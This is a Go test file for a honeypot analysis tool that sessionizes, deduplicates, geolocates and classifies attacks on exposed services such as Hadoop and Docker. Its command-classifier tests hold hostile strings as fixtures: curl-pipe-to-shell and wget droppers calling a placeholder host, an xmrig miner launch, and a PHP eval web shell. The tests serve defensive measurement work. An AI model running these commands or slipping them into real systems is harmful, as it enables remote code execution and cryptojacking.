@@ -1,0 +1,330 @@
+package analysis
+
+import (
+	"fmt"
+	"net/netip"
+	"testing"
+	"testing/quick"
+	"time"
+
+	"mavscan/internal/eslite"
+	"mavscan/internal/geo"
+	"mavscan/internal/mav"
+)
+
+var t0 = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
+
+func execEvent(offset time.Duration, host, app, src, command string) eslite.Event {
+	return eslite.Event{
+		Time: t0.Add(offset),
+		Type: "exec",
+		Fields: map[string]string{
+			"host": host, "app": app, "src": src, "command": command,
+		},
+	}
+}
+
+func TestSessionizeFifteenMinuteWindow(t *testing.T) {
+	var store eslite.Store
+	// Three commands within rolling 15-minute gaps: one attack.
+	store.Append(execEvent(0, "10.30.0.1", "Hadoop", "1.1.1.1", "c1"))
+	store.Append(execEvent(10*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c2"))
+	store.Append(execEvent(22*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c3"))
+	// A fourth after a >15-minute silence: a new attack.
+	store.Append(execEvent(60*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c4"))
+	// A different source in between: its own attack.
+	store.Append(execEvent(5*time.Minute, "10.30.0.1", "Hadoop", "2.2.2.2", "x"))
+
+	attacks := Sessionize(&store)
+	if len(attacks) != 3 {
+		t.Fatalf("sessionized into %d attacks, want 3", len(attacks))
+	}
+	if len(attacks[0].Commands) != 3 {
+		t.Fatalf("first attack has %d commands, want 3", len(attacks[0].Commands))
+	}
+	if attacks[0].Payload != "c1" {
+		t.Fatalf("payload = %q, want first command", attacks[0].Payload)
+	}
+}
+
+func TestSessionizeSeparatesHosts(t *testing.T) {
+	var store eslite.Store
+	// Same source attacking two honeypots concurrently: two attacks.
+	store.Append(execEvent(0, "10.30.0.1", "Hadoop", "1.1.1.1", "a"))
+	store.Append(execEvent(time.Minute, "10.30.0.2", "Docker", "1.1.1.1", "b"))
+	if got := len(Sessionize(&store)); got != 2 {
+		t.Fatalf("attacks = %d, want 2", got)
+	}
+}
+
+func TestUniquifyRule(t *testing.T) {
+	mk := func(offset time.Duration, src, payload string) Attack {
+		return Attack{App: mav.Hadoop, Src: netip.MustParseAddr(src), Start: t0.Add(offset), Payload: payload}
+	}
+	attacks := []Attack{
+		mk(0, "1.1.1.1", "p1"),           // new payload, new IP → unique
+		mk(time.Hour, "1.1.1.1", "p2"),   // new payload, KNOWN IP → not unique
+		mk(2*time.Hour, "2.2.2.2", "p1"), // KNOWN payload, new IP → not unique
+		mk(3*time.Hour, "3.3.3.3", "p3"), // both new → unique
+	}
+	Uniquify(attacks)
+	want := []bool{true, false, false, true}
+	for i, a := range attacks {
+		if a.Unique != want[i] {
+			t.Errorf("attack %d unique=%v, want %v", i, a.Unique, want[i])
+		}
+	}
+}
+
+func TestUniquifyIsPerApp(t *testing.T) {
+	attacks := []Attack{
+		{App: mav.Hadoop, Src: netip.MustParseAddr("1.1.1.1"), Start: t0, Payload: "p"},
+		{App: mav.Docker, Src: netip.MustParseAddr("1.1.1.1"), Start: t0.Add(time.Hour), Payload: "p"},
+	}
+	Uniquify(attacks)
+	if !attacks[0].Unique || !attacks[1].Unique {
+		t.Fatal("uniqueness must be tracked per application")
+	}
+}
+
+func TestTable5Aggregation(t *testing.T) {
+	ipA, ipB := netip.MustParseAddr("1.1.1.1"), netip.MustParseAddr("2.2.2.2")
+	attacks := Uniquify([]Attack{
+		{App: mav.Hadoop, Src: ipA, Start: t0, Payload: "p1"},
+		{App: mav.Hadoop, Src: ipA, Start: t0.Add(time.Hour), Payload: "p1"},
+		{App: mav.Hadoop, Src: ipB, Start: t0.Add(2 * time.Hour), Payload: "p2"},
+		{App: mav.Docker, Src: ipA, Start: t0.Add(3 * time.Hour), Payload: "p3"},
+	})
+	rows, total, unique, ips := Table5(attacks)
+	if total != 4 || unique != 3 || ips != 2 {
+		t.Fatalf("totals = %d/%d/%d, want 4/3/2", total, unique, ips)
+	}
+	if len(rows) != 2 {
+		t.Fatalf("rows = %d", len(rows))
+	}
+	// Rows come in catalog order: Docker (CM) before Hadoop (CM, later row)?
+	// Catalog order within CM: Kubernetes, Docker, Consul, Hadoop, Nomad.
+	if rows[0].App != mav.Docker || rows[1].App != mav.Hadoop {
+		t.Fatalf("row order: %v, %v", rows[0].App, rows[1].App)
+	}
+	if rows[1].Attacks != 3 || rows[1].Unique != 2 || rows[1].UniqueIPs != 2 {
+		t.Fatalf("hadoop row: %+v", rows[1])
+	}
+}
+
+func TestTable6Gaps(t *testing.T) {
+	ip := netip.MustParseAddr("1.1.1.1")
+	attacks := Uniquify([]Attack{
+		{App: mav.Docker, Src: ip, Start: t0.Add(2 * time.Hour), Payload: "p1"},
+		{App: mav.Docker, Src: ip, Start: t0.Add(6 * time.Hour), Payload: "p1"},
+		{App: mav.Docker, Src: ip, Start: t0.Add(14 * time.Hour), Payload: "p1"},
+	})
+	stats := Table6(attacks, t0)
+	if len(stats) != 1 {
+		t.Fatalf("stats rows = %d", len(stats))
+	}
+	s := stats[0]
+	if s.First != 2 {
+		t.Errorf("First = %v, want 2", s.First)
+	}
+	if s.AvgAll != 6 { // gaps 4h and 8h
+		t.Errorf("AvgAll = %v, want 6", s.AvgAll)
+	}
+	// One unique attack, measured from exposure.
+	if s.AvgUnique != 2 || s.ShortestUnique != 2 || s.LongestUnique != 2 {
+		t.Errorf("unique gaps = %v/%v/%v, want 2", s.ShortestUnique, s.LongestUnique, s.AvgUnique)
+	}
+}
+
+func TestClusterAttackersLinksByPayloadAndIP(t *testing.T) {
+	ip1, ip2, ip3 := netip.MustParseAddr("1.1.1.1"), netip.MustParseAddr("2.2.2.2"), netip.MustParseAddr("3.3.3.3")
+	attacks := []Attack{
+		{App: mav.Hadoop, Src: ip1, Start: t0, Payload: "pA"},
+		{App: mav.Docker, Src: ip2, Start: t0.Add(time.Hour), Payload: "pA"},         // same payload → same actor
+		{App: mav.Docker, Src: ip2, Start: t0.Add(2 * time.Hour), Payload: "pB"},     // same IP → same actor
+		{App: mav.JupyterLab, Src: ip3, Start: t0.Add(3 * time.Hour), Payload: "pC"}, // unrelated
+	}
+	clusters := ClusterAttackers(attacks)
+	if len(clusters) != 2 {
+		t.Fatalf("clusters = %d, want 2", len(clusters))
+	}
+	big := clusters[0]
+	if big.Attacks != 3 || len(big.IPs) != 2 || len(big.Apps) != 2 {
+		t.Fatalf("big cluster: %+v", big)
+	}
+	multi := MultiAppAttackers(clusters)
+	if len(multi) != 1 {
+		t.Fatalf("multi-app attackers = %d", len(multi))
+	}
+	if share := TopShare(clusters, 1); share != 0.75 {
+		t.Fatalf("TopShare(1) = %v, want 0.75", share)
+	}
+}
+
+func TestTable7And8Geo(t *testing.T) {
+	db := geo.Default()
+	nl, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS211252" })
+	br, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS268624" })
+	var attacks []Attack
+	for i := 0; i < 5; i++ {
+		attacks = append(attacks, Attack{App: mav.Hadoop, Src: nl.Addr().Next(), Start: t0, Payload: fmt.Sprint(i)})
+	}
+	attacks = append(attacks, Attack{App: mav.Hadoop, Src: br.Addr().Next(), Start: t0, Payload: "x"})
+	t7 := Table7(attacks, db)
+	if t7[0].Country != "Netherlands" || t7[0].Attacks != 5 || t7[0].ASes != 1 {
+		t.Fatalf("Table7 top row: %+v", t7[0])
+	}
+	t8 := Table8(attacks, db)
+	if t8[0].ASN != "AS211252" || t8[0].Provider != "Serverion BV" || t8[0].Countries != 1 {
+		t.Fatalf("Table8 top row: %+v", t8[0])
+	}
+}
+
+func TestVersionBinning(t *testing.T) {
+	scan := time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)
+	cases := []struct {
+		released time.Time
+		want     int
+	}{
+		{time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC), 0}, // ancient
+		{scan.AddDate(0, -40, 0), 0},                     // > 3 years
+		{scan.AddDate(0, -35, 0), 1},                     // oldest half-year bin
+		{scan.AddDate(0, -7, 0), 5},
+		{scan.AddDate(0, -1, 0), 6}, // newest bin
+	}
+	for _, c := range cases {
+		if got := binFor(scan, c.released); got != c.want {
+			t.Errorf("binFor(%v) = %d, want %d", c.released, got, c.want)
+		}
+	}
+}
+
+func TestFigure3Points(t *testing.T) {
+	attacks := Uniquify([]Attack{
+		{App: mav.Hadoop, Src: netip.MustParseAddr("1.1.1.1"), Start: t0.Add(90 * time.Minute), Payload: "p"},
+	})
+	points := Figure3(attacks, t0)
+	if len(points) != 1 || points[0].Hour != 1.5 || !points[0].New {
+		t.Fatalf("points = %+v", points)
+	}
+}
+
+func TestClassifyCommand(t *testing.T) {
+	cases := []struct {
+		cmd  string
+		want Purpose
+	}{
+		{"./xmrig -o stratum+tcp://pool:4444", PurposeCryptojacking},
+		{"wget -q http://x/kinsing; ./kinsing", PurposeKinsing},
+		{"curl -fsSL http://x/a.sh | sh", PurposeDropper},
+		{"shutdown -h now", PurposeVigilante},
+		{"<?php eval(base64_decode($_GET['q'])); ?>", PurposeDefacement},
+		{"id", PurposeUnknown},
+	}
+	for _, c := range cases {
+		if got := ClassifyCommand(c.cmd); got != c.want {
+			t.Errorf("ClassifyCommand(%q) = %s, want %s", c.cmd, got, c.want)
+		}
+	}
+}
+
+func TestClassifyAttackEscalates(t *testing.T) {
+	a := Attack{Commands: []string{
+		"curl -fsSL http://x/a.sh | sh", // dropper...
+		"./xmrig -o stratum+tcp://p:1",  // ...that starts a miner
+	}}
+	if got := ClassifyAttack(a); got != PurposeCryptojacking {
+		t.Fatalf("ClassifyAttack = %s, want cryptojacking", got)
+	}
+}
+
+func TestPurposeBreakdownAndShare(t *testing.T) {
+	attacks := []Attack{
+		{Commands: []string{"./xmrig -o stratum+tcp://p:1"}},
+		{Commands: []string{"./kinsing"}},
+		{Commands: []string{"curl http://x | sh"}},
+		{Commands: []string{"shutdown -h now"}},
+	}
+	rows := PurposeBreakdown(attacks)
+	if len(rows) != 4 {
+		t.Fatalf("breakdown rows = %d", len(rows))
+	}
+	if share := CryptojackingShare(attacks); share != 0.5 {
+		t.Fatalf("cryptojacking share = %v, want 0.5", share)
+	}
+}
+
+// TestSessionizeOrderInsensitiveProperty: the store may receive events out
+// of order (shippers race); sessionization must produce the same attacks
+// regardless of append order because it sorts by time first.
+func TestSessionizeOrderInsensitiveProperty(t *testing.T) {
+	f := func(perm []uint8) bool {
+		base := []eslite.Event{
+			execEvent(0, "h1", "Hadoop", "1.1.1.1", "a"),
+			execEvent(5*time.Minute, "h1", "Hadoop", "1.1.1.1", "b"),
+			execEvent(40*time.Minute, "h1", "Hadoop", "1.1.1.1", "c"),
+			execEvent(10*time.Minute, "h1", "Hadoop", "2.2.2.2", "d"),
+			execEvent(2*time.Hour, "h2", "Docker", "1.1.1.1", "e"),
+		}
+		var shuffled, ordered eslite.Store
+		for _, e := range base {
+			ordered.Append(e)
+		}
+		// Permute via the fuzz input.
+		idx := []int{0, 1, 2, 3, 4}
+		for i, p := range perm {
+			j := int(p) % len(idx)
+			k := i % len(idx)
+			idx[j], idx[k] = idx[k], idx[j]
+		}
+		for _, i := range idx {
+			shuffled.Append(base[i])
+		}
+		a := Sessionize(&ordered)
+		b := Sessionize(&shuffled)
+		if len(a) != len(b) {
+			return false
+		}
+		for i := range a {
+			if a[i].Src != b[i].Src || !a[i].Start.Equal(b[i].Start) || len(a[i].Commands) != len(b[i].Commands) {
+				return false
+			}
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestUniquifyCountBoundsProperty: per application, the number of unique
+// attacks can never exceed the number of distinct payloads nor the number
+// of distinct source IPs.
+func TestUniquifyCountBoundsProperty(t *testing.T) {
+	f := func(seeds []uint16) bool {
+		var attacks []Attack
+		for i, s := range seeds {
+			attacks = append(attacks, Attack{
+				App:     mav.Hadoop,
+				Src:     netip.AddrFrom4([4]byte{10, 0, 0, byte(s % 7)}),
+				Start:   t0.Add(time.Duration(i) * time.Hour),
+				Payload: fmt.Sprintf("p%d", s%5),
+			})
+		}
+		Uniquify(attacks)
+		payloads := map[string]bool{}
+		ips := map[netip.Addr]bool{}
+		unique := 0
+		for _, a := range attacks {
+			payloads[a.Payload] = true
+			ips[a.Src] = true
+			if a.Unique {
+				unique++
+			}
+		}
+		return unique <= len(payloads) && unique <= len(ips)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
+		t.Fatal(err)
+	}
+}
